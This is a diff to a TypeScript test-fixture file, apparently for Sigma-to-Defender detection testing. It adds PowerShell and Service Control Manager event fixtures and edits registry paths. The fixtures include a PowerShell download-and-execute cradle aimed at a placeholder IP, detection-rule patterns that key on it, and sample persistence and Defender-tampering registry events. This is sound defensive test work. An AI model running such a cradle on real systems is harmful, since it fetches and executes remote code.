@@ -14,6 +14,8 @@ const USER = 'CORP\\alice';
 
 export interface FixtureEvent {
   readonly eventId: number;
+  /** The log it is written to; Sysmon's when absent. */
+  readonly log?: EventLog;
   /** UTC, as Sysmon's UtcTime and the record's TimeCreated. */
   readonly time: string;
   readonly data: Readonly<Record<string, DataValue>>;
@@ -23,6 +25,15 @@ export interface FixtureEvent {
     readonly actionType: string;
     readonly columns: Readonly<Record<string, string | number | Readonly<Record<string, unknown>>>>;
   };
+}
+
+/** A provider and the channel it writes to (with the level and task of the fixture's events). */
+export interface EventLog {
+  readonly provider: { readonly name: string; readonly guid: string };
+  readonly channel: string;
+  readonly level: number;
+  readonly task: number;
+  readonly version: number;
 }
 
 export interface CategoryFixture {
@@ -292,7 +303,7 @@ export const CATEGORY_FIXTURES: readonly CategoryFixture[] = [
         table: 'DeviceRegistryEvents',
         actionType: 'RegistryKeyCreated',
         columns: {
-          RegistryKey: 'HKEY_LOCAL_MACHINE\\System\\CurrentControlSet\\Services\\EvilSvc',
+          RegistryKey: 'HKEY_LOCAL_MACHINE\\System\\ControlSet001\\Services\\EvilSvc',
           InitiatingProcessFileName: 'setup.exe',
         },
       },
@@ -343,7 +354,10 @@ export const CATEGORY_FIXTURES: readonly CategoryFixture[] = [
       {
         table: 'DeviceRegistryEvents',
         actionType: 'RegistryValueDeleted',
-        columns: { RegistryKey: 'HKEY_USERS\\S-1-5-21-1-2-3-1104\\Software\\Vendor\\MRU', RegistryValueName: 'a' },
+        columns: {
+          RegistryKey: 'HKEY_CURRENT_USER\\S-1-5-21-1-2-3-1104\\Software\\Vendor\\MRU',
+          RegistryValueName: 'a',
+        },
       },
     ),
   },
@@ -363,7 +377,7 @@ export const CATEGORY_FIXTURES: readonly CategoryFixture[] = [
         table: 'DeviceRegistryEvents',
         actionType: 'RegistryValueSet',
         columns: {
-          RegistryKey: 'HKEY_USERS\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
+          RegistryKey: 'HKEY_CURRENT_USER\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
           RegistryValueName: 'Updater',
           RegistryValueData: 'C:\\Users\\alice\\AppData\\Local\\Temp\\upd.exe',
         },
@@ -397,8 +411,8 @@ export const CATEGORY_FIXTURES: readonly CategoryFixture[] = [
         table: 'DeviceRegistryEvents',
         actionType: 'RegistryKeyRenamed',
         columns: {
-          RegistryKey: 'HKEY_LOCAL_MACHINE\\System\\CurrentControlSet\\Services\\WinDefend_old',
-          PreviousRegistryKey: 'HKEY_LOCAL_MACHINE\\System\\CurrentControlSet\\Services\\WinDefend',
+          RegistryKey: 'HKEY_LOCAL_MACHINE\\System\\ControlSet001\\Services\\WinDefend_old',
+          PreviousRegistryKey: 'HKEY_LOCAL_MACHINE\\System\\ControlSet001\\Services\\WinDefend',
           InitiatingProcessFileName: 'reg.exe',
         },
       },
@@ -415,7 +429,7 @@ export const CATEGORY_FIXTURES: readonly CategoryFixture[] = [
       {
         table: 'DeviceRegistryEvents',
         actionType: 'RegistryKeyRenamed',
-        columns: { RegistryKey: 'HKEY_USERS\\S-1-5-21-1-2-3-1104\\Software\\Vendor\\New' },
+        columns: { RegistryKey: 'HKEY_CURRENT_USER\\S-1-5-21-1-2-3-1104\\Software\\Vendor\\New' },
       },
     ),
   },
@@ -730,6 +744,23 @@ export const WMI_SUBSCRIPTION: readonly FixtureEvent[] = [
 
 /** The event as the .evtx writer takes it. */
 export function winEvent(e: FixtureEvent): WinEvent {
+  if (e.log)
+    return {
+      provider: e.log.provider,
+      eventId: e.eventId,
+      version: e.log.version,
+      level: e.log.level,
+      task: e.log.task,
+      opcode: 0,
+      keywords: 0x8000000000000000n,
+      timeCreated: e.time,
+      processId: 3212,
+      threadId: 4040,
+      channel: e.log.channel,
+      computer: COMPUTER,
+      userId: 'S-1-5-21-1004336348-1177238915-682003330-1104',
+      data: e.data,
+    };
   return {
     provider: SYSMON,
     eventId: e.eventId,
@@ -747,3 +778,77 @@ export function winEvent(e: FixtureEvent): WinEvent {
     data: e.data,
   };
 }
+
+const POWERSHELL: EventLog = {
+  provider: { name: 'Microsoft-Windows-PowerShell', guid: '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}' },
+  channel: 'Microsoft-Windows-PowerShell/Operational',
+  level: 5,
+  task: 2,
+  version: 1,
+};
+
+const SERVICE_CONTROL_MANAGER: EventLog = {
+  provider: { name: 'Service Control Manager', guid: '{555908D1-A6D7-4695-8E1E-26931D2012F4}' },
+  channel: 'System',
+  level: 4,
+  task: 0,
+  version: 0,
+};
+
+/** An event of a channel Defender has no table for: it loads into WindowsEvent. */
+function channelEvent(log: EventLog, eventId: number, data: Record<string, DataValue>): FixtureEvent {
+  minute++;
+  const time = new Date(Date.UTC(2024, 4, 1, 11, minute, 3, 500)).toISOString();
+  return {
+    eventId,
+    log,
+    time,
+    data,
+    expect: { table: 'WindowsEvent', actionType: '', columns: { Channel: log.channel, Provider: log.provider.name } },
+  };
+}
+
+/**
+ * Event-log channel fixtures (Sigma logsources that convert onto WindowsEvent): PowerShell script
+ * block logging (category ps_script, EventID 4104) and a service installation in the System log
+ * (service system, EventID 7045).
+ */
+export const CHANNEL_FIXTURES: readonly CategoryFixture[] = [
+  {
+    category: 'ps_script',
+    rule: "ScriptBlockText|contains|all: ['Net.WebClient', '.DownloadString(']",
+    match: channelEvent(POWERSHELL, 4104, {
+      MessageNumber: 1,
+      MessageTotal: 1,
+      ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')",
+      ScriptBlockId: '6e4d7f4c-2d0b-4b7e-9c1a-0d5a1f3e2b11',
+      Path: '',
+    }),
+    nearMiss: channelEvent(POWERSHELL, 4104, {
+      MessageNumber: 1,
+      MessageTotal: 1,
+      ScriptBlockText:
+        "(New-Object Net.WebClient).DownloadFile('https://intranet.corp.local/tools.zip', 'C:\\Temp\\tools.zip')",
+      ScriptBlockId: '0b8e2c55-7a31-4f0e-8d2e-4c6f9a1b3d22',
+      Path: 'C:\\Scripts\\fetch-tools.ps1',
+    }),
+  },
+  {
+    category: 'system',
+    rule: "Provider_Name: 'Service Control Manager' and EventID: 7045 and ImagePath|contains: '\\AppData\\Local\\Temp\\'",
+    match: channelEvent(SERVICE_CONTROL_MANAGER, 7045, {
+      ServiceName: 'UpdaterSvc',
+      ImagePath: 'C:\\Users\\alice\\AppData\\Local\\Temp\\svc64.exe -k run',
+      ServiceType: 'user mode service',
+      StartType: 'auto start',
+      AccountName: 'LocalSystem',
+    }),
+    nearMiss: channelEvent(SERVICE_CONTROL_MANAGER, 7045, {
+      ServiceName: 'VendorAgent',
+      ImagePath: '"C:\\Program Files\\Vendor\\agent.exe" --service',
+      ServiceType: 'user mode service',
+      StartType: 'auto start',
+      AccountName: 'LocalSystem',
+    }),
+  },
+];
